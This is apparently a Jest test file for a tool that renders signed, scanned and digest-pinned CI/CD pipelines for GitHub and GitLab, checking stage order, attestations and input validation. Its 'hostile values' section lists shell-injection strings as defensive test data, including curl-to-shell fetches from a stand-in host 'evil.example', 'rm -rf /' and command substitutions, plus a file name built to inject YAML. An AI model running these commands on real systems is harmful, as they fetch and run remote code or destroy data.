import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as fc from 'fast-check';
import { parse } from 'yaml';
import { CI_GATE_STAGES, CI_GATE_TOOLS, CI_GATE_VARIABLES, CiGateOptions, KUBECTL_DIGEST_PLACEHOLDER, renderCiGate } from '../../lib/core/ci-gate';
import { KubeHardenValidationError } from '../../lib/core/validation';

/** Walks `needs` back from `job` and returns the chain of jobs it depends on, first job first. */
function chain(jobs: Record<string, any>, job: string): string[] {
  const needs: string[] = [].concat(jobs[job].needs ?? []);
  const previous = needs.filter((n) => n !== 'build' || needs.length === 1);
  return previous.length === 0 ? [job] : [...chain(jobs, previous[0]), job];
}

describe('CI gate | github', () => {
  const text = renderCiGate({ ci: 'github' });
  const workflow = parse(text);

  test('is valid YAML whose jobs run build, scan, sign, verify, push, deploy in that order', () => {
    expect(text).toMatchSnapshot();
    expect(chain(workflow.jobs, 'deploy')).toEqual([...CI_GATE_STAGES]);
  });

  test('the scan fails on any critical finding and its report becomes a signed vuln attestation', () => {
    expect(workflow.jobs.scan.steps[1].run).toMatch(/TRIVY_USERNAME="\$REGISTRY_USER"[^\n]*trivy:0\.57\.1 image --exit-code 1 --severity CRITICAL/);
    expect(workflow.jobs.sign.env.REGISTRY_PASSWORD).toBe('${{ secrets.REGISTRY_PASSWORD }}');
    expect(workflow.jobs.sign.steps.at(-1).run).toMatch(/attest --yes --replace --key env:\/\/COSIGN_PRIVATE_KEY --type vuln --predicate vuln\.json/);
    expect(workflow.jobs.verify.steps.at(-1).run).toMatch(/verify-attestation --key cosign\.pub --type vuln/);
    expect(workflow.jobs.sign.steps).toContainEqual({ uses: 'actions/download-artifact@v4', with: { name: 'vuln-report' } });
  });

  test('a re-run on the same digest replaces the scan attestation, for both CI systems', () => {
    // Kyverno checks the conditions (scan age, CRITICAL count) against every statement of the predicate type and fails
    // on the first that does not pass (kyverno/kyverno pkg/engine/internal/imageverifier.go, verifyAttestation), and
    // `cosign attest` appends an attestation beside the existing ones unless `--replace` (sigstore/cosign
    // cmd/cosign/cli/attest/attest.go: `if c.Replace { ... cremote.NewReplaceOp(predicateURI) }`): without it a rescan
    // leaves the stale statement in place and the digest stays denied once that one is older than maxScanAge.
    const gitlab = parse(renderCiGate({ ci: 'gitlab' }));
    const scripts: string[][] = [workflow.jobs.sign.steps.map((s: { run?: string }) => s.run ?? ''), gitlab.sign.script];
    for (const script of scripts) {
      const attests = script.filter((c) => / attest /.test(c));
      expect(attests).toHaveLength(1);
      expect(attests[0]).toMatch(/ attest [^"]*--replace[^"]*--type vuln /);
    }
  });

  test('every tool is pinned and nothing uses latest', () => {
    for (const image of Object.values(CI_GATE_TOOLS)) expect(text).toContain(image);
    expect(text).not.toMatch(/:latest\b/);
  });
});

describe('CI gate | deploy', () => {
  const digest = `sha256:${'c'.repeat(64)}`;
  const pipeline = parse(renderCiGate({ ci: 'gitlab', releaseImage: 'registry.example.cn/pay/api' }));

  test('deploys exactly the verified digest: the release image is set to <repo>@$DIGEST and checked before apply', () => {
    const script: string[] = pipeline.deploy.script;
    const render = script.findIndex((c) => / kustomize "\$MANIFESTS_DIR" > deploy\.yaml$/.test(c));
    const check = script.indexOf('grep -qF "image: $RELEASE_IMAGE@$DIGEST" deploy.yaml');
    const apply = script.findIndex((c) => / apply --server-side -f deploy\.yaml$/.test(c));
    expect([render, check, apply].every((i) => i >= 0)).toBe(true);
    expect(render < check && check < apply).toBe(true);
    expect(script.some((c) => / apply [^|]*-f "?\$MANIFESTS_DIR/.test(c))).toBe(false);
    expect(pipeline.variables).toMatchObject({ MANIFESTS_DIR: 'dist', RELEASE_IMAGE: 'registry.example.cn/pay/api' });
  });

  test('the shell steps write a kustomization over the synthesized manifests that pins the digest', () => {
    // GIVEN a synthesized dist with two manifests, and the digest the gate verified
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kh-gate-'));
    try {
      fs.mkdirSync(path.join(dir, 'dist'));
      fs.writeFileSync(path.join(dir, 'dist', 'app.k8s.yaml'), 'kind: Deployment\n');
      fs.writeFileSync(path.join(dir, 'dist', 'platform.k8s.yaml'), 'kind: Namespace\n');
      // WHEN the deploy stage's shell steps (not the docker ones) run
      const shell = (pipeline.deploy.script as string[]).filter((c) => !c.startsWith('docker ') && !c.startsWith('grep '));
      const env = { ...process.env, ...pipeline.variables, DIGEST: digest };
      execFileSync('sh', ['-ec', shell.join('\n')], { cwd: dir, env });
      // THEN the kustomization lists every manifest and sets the release image to the digest
      expect(parse(fs.readFileSync(path.join(dir, 'dist', 'kustomization.yaml'), 'utf8'))).toEqual({
        apiVersion: 'kustomize.config.k8s.io/v1beta1',
        kind: 'Kustomization',
        resources: ['app.k8s.yaml', 'platform.k8s.yaml'],
        images: [{ name: 'registry.example.cn/pay/api', digest }],
      });
      expect(() => execFileSync('sh', ['-ec', shell[0]], { cwd: dir, env: { ...env, DIGEST: '' } })).toThrow();
      // AND a manifest whose file name would inject YAML into the kustomization stops the run
      fs.writeFileSync(path.join(dir, 'dist', 'x.yaml\nimages: []\n#.yaml'), 'kind: Namespace\n');
      expect(() => execFileSync('sh', ['-ec', shell.join('\n')], { cwd: dir, env, stdio: 'pipe' })).toThrow(/unsafe manifest file name/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  test('kubectl is pinned by digest: a placeholder fails closed until set, a given image must carry a digest', () => {
    expect(CI_GATE_TOOLS.kubectl).toBe(`registry.k8s.io/kubectl:v1.31.4@${KUBECTL_DIGEST_PLACEHOLDER}`);
    expect(renderCiGate({ ci: 'github' })).not.toContain('bitnami');
    const kubectlImage = `registry.k8s.io/kubectl:v1.31.4@${digest}`;
    expect(parse(renderCiGate({ ci: 'github', kubectlImage })).env.KUBECTL_IMAGE).toBe(kubectlImage);
    expect(parse(renderCiGate({ ci: 'github', kubectlImage })).jobs.deploy.steps.at(-1).run).toContain('"$KUBECTL_IMAGE" apply --server-side -f deploy.yaml');
    expect(() => renderCiGate({ ci: 'github', kubectlImage: 'docker.io/bitnami/kubectl:1.31.4' })).toThrow(/kubectlImage: is not pinned by digest/);
  });
});

describe('CI gate | gitlab', () => {
  const pipeline = parse(renderCiGate({ ci: 'gitlab', releaseImage: 'registry.example.cn/pay/api' }));

  test('declares the stages in gate order and one job per stage that needs the previous one', () => {
    expect(pipeline.stages).toEqual([...CI_GATE_STAGES]);
    CI_GATE_STAGES.forEach((stage, i) => {
      expect(pipeline[stage].stage).toBe(stage);
      if (i > 0) expect(pipeline[stage].needs).toContain(CI_GATE_STAGES[i - 1]);
    });
    expect(pipeline.build.artifacts.reports.dotenv).toBe('gate.env');
  });

  test('push promotes the verified digest with its signatures to the release repository', () => {
    expect(pipeline.push.script[0]).toMatch(/docker login "\$\{STAGING_IMAGE%%\/\*\}" -u "\$REGISTRY_USER" --password-stdin$/);
    expect(pipeline.push.script).toHaveLength(3);
    expect(pipeline.push.script[1]).toMatch(/v2\.4\.1 copy --force "\$STAGING_IMAGE@\$DIGEST" "\$RELEASE_IMAGE"$/);
    expect(pipeline.variables).toMatchObject({ STAGING_IMAGE: 'registry.example.cn/staging/app', RELEASE_IMAGE: 'registry.example.cn/pay/api' });
    // the login line takes the registry host from the variable: check the expansion in a real shell
    expect(execFileSync('sh', ['-c', 'echo "${STAGING_IMAGE%%/*}"'], { env: { STAGING_IMAGE: 'registry.example.cn:5000/staging/app' } }).toString()).toBe('registry.example.cn:5000\n');
  });
});

test('CI gate | rejects an unknown CI system and a release repository equal to staging', () => {
  expect(() => renderCiGate({ ci: 'jenkins' as never, stagingImage: 'r.example.cn/a', releaseImage: 'r.example.cn/a' }))
    .toThrow(/ci: must be one of "github", "gitlab"[\s\S]*releaseImage: equals stagingImage/);
});

/**
 * Injection: user values land in a job that holds the deploy secret. GitHub's security hardening guide
 * (docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions,
 * "Understanding the risk of script injections") says to pass untrusted values through `env:` and never to
 * interpolate `${{ }}` into `run:`; every value here is validated AND only ever read from an environment variable.
 */
describe('CI gate | hostile values', () => {
  const INJECTIONS = [
    'dist; curl https://evil.example/x | sh #',
    '$(curl -s https://evil.example/x)',
    '`id`',
    'dist\nrm -rf /',
    'dist\r\nid',
    '${{ github.event.head_commit.message }}',
    "dist' || true '",
    'dist"; id; echo "',
    'dist #comment',
    'dist&&id',
    'dist|id',
    'dist>x',
    '../../etc',
    '/etc',
    '-rf',
    '--help',
    '*',
    'dist\u0000',
    'dist\u2028',
    ' dist',
    '',
    'a'.repeat(300),
  ];
  const FIELDS: readonly (keyof typeof CI_GATE_VARIABLES)[] = ['manifestsDir', 'stagingImage', 'releaseImage', 'kubectlImage'];
  const cases = (['github', 'gitlab'] as const).flatMap((ci) => FIELDS.flatMap((field) => INJECTIONS.map((value) => [ci, field, value] as const)));

  test.each(cases)('%s: %s %j is a validation error naming the field', (ci, field, value) => {
    // kubectlImage must carry a digest: append one so that only the injected part can make it invalid
    const given = field === 'kubectlImage' ? `${value}@sha256:${'a'.repeat(64)}` : value;
    let error: unknown;
    try {
      renderCiGate({ ci, [field]: given });
    } catch (e) {
      error = e;
    }
    expect(KubeHardenValidationError.isValidationError(error)).toBe(true);
    expect((error as KubeHardenValidationError).problems.map((p) => p.field)).toContain(field);
  });

  test('wrong types, prototype values and unknown keys are validation errors, all at once', () => {
    // options that inherit from another object are refused whole (they used to render with the inherited field ignored)
    const inherited = Object.create({ manifestsDir: '$(id)' }) as CiGateOptions;
    expect(() => renderCiGate(Object.assign(inherited, { ci: 'gitlab' }))).toThrow(/props: is an object that inherits from another, not plain data/);
    expect(() => renderCiGate({ ci: 'github', manifestsDir: ['dist'] as never, releaseImage: 5 as never, manifest: 'x' } as never))
      .toThrow(/manifest: is not a known field[^\n]*did you mean 'manifestsDir'[\s\S]*manifestsDir: must be a string[\s\S]*releaseImage: must be a string/);
    expect(() => renderCiGate(null as never)).toThrow(KubeHardenValidationError);
  });

  /** Every script line of a parsed pipeline (GitHub `run:` steps, GitLab `script:` lists). */
  function scripts(ci: 'github' | 'gitlab', doc: any): string[] {
    return ci === 'github'
      ? Object.values<any>(doc.jobs).flatMap((job) => job.steps.map((s: any) => s.run).filter((r: unknown) => typeof r === 'string'))
      : CI_GATE_STAGES.flatMap((stage) => doc[stage].script as string[]);
  }

  test.each(['github', 'gitlab'] as const)('%s: accepted values reach the scripts only through quoted variables', (ci) => {
    const reference = parse(renderCiGate({ ci }));
    fc.assert(fc.property(
      fc.oneof(fc.string(), fc.stringMatching(/^[A-Za-z0-9._\/-]{1,20}$/), fc.constantFrom(...INJECTIONS)),
      (manifestsDir) => {
        let text: string;
        try {
          text = renderCiGate({ ci, manifestsDir });
        } catch (error) {
          return KubeHardenValidationError.isValidationError(error);
        }
        const doc = parse(text);
        const env = ci === 'github' ? doc.env : doc.variables;
        // THEN the YAML round-trips the value exactly, and the scripts do not depend on it at all
        expect(env[CI_GATE_VARIABLES.manifestsDir]).toBe(manifestsDir.replace(/\/+$/, ''));
        expect(scripts(ci, doc)).toEqual(scripts(ci, reference));
        return true;
      },
    ), { numRuns: 300 });
    // no run script interpolates a CI expression
    expect(scripts(ci, reference).filter((line) => line.includes('${{'))).toEqual([]);
    // every variable use in the scripts is double-quoted
    for (const name of Object.values(CI_GATE_VARIABLES)) {
      const unquoted = scripts(ci, reference).filter((line) => new RegExp(`(^|[^"])\\$\\{?${name}`).test(line.replace(/"[^"]*"/g, '""')));
      expect({ name, unquoted }).toEqual({ name, unquoted: [] });
    }
  });

  test('a nested relative manifests path with a trailing slash is accepted and normalized', () => {
    const doc = parse(renderCiGate({ ci: 'github', manifestsDir: 'deploy/k8s-out_1.0/' }));
    expect(doc.env.MANIFESTS_DIR).toBe('deploy/k8s-out_1.0');
  });
});
